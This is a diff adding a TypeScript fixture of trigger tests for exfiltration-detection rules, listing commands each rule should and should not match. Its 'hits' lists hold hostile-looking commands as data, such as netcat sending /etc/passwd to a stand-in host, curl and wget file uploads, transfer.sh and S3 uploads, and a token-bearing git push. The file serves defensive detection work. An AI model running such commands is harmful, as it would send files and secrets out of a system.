@@ -1,0 +1,31 @@
+import type { Triggers } from '../trigger.ts'
+
+/** Triggers of the rules in this folder, and what must not match. */
+export const exfiltration: Triggers = {
+  'exfiltration/file-uploaded': {
+    hits: [
+      'curl -T x ftp://192.0.2.7/',
+      'curl -F file=@x http://192.0.2.7',
+      'wget --post-file=x http://192.0.2.7',
+      'python3 -m http.server 80',
+      ['sh', '-c', 'nc 192.0.2.7 80 < /etc/passwd'],
+    ],
+    misses: ['curl -d a=b http://192.0.2.7', 'curl http://192.0.2.7'],
+  },
+  'exfiltration/file-to-cloud': {
+    hits: [
+      'rclone copy x remote:y',
+      'aws s3 cp x s3://b/',
+      'curl --upload-file x https://transfer.sh/x',
+    ],
+    misses: ['rclone listremotes', 'aws s3 ls'],
+  },
+  'exfiltration/file-to-repository': {
+    hits: ['gh gist create x', 'git push https://a:token@github.com/a/b'],
+    misses: ['git push origin main'],
+  },
+  'exfiltration/file-split': {
+    hits: ['split -b 1M x', 'split --bytes=500k x'],
+    misses: ['split -l 10 x'],
+  },
+}
